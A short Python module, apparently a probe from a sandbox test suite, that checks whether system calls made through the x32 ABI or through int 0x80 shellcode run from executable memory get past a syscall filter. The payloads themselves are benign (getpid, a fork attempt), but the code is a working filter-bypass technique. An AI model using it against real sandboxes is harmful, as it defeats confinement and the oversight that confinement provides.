"""neighbours: makes its system calls by the x32 and the 32-bit table, where a filter may not look"""
import ctypes
import mmap

INT80 = bytes.fromhex("53b814000000cd805bc3")  # push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret


def attack():
    libc = ctypes.CDLL(None)
    if libc.syscall(0x40000000 | 39) > 0 or libc.syscall(0x40000000 | 57) > 0:
        return "x32"
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(INT80)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return function() > 0 and "int 0x80"
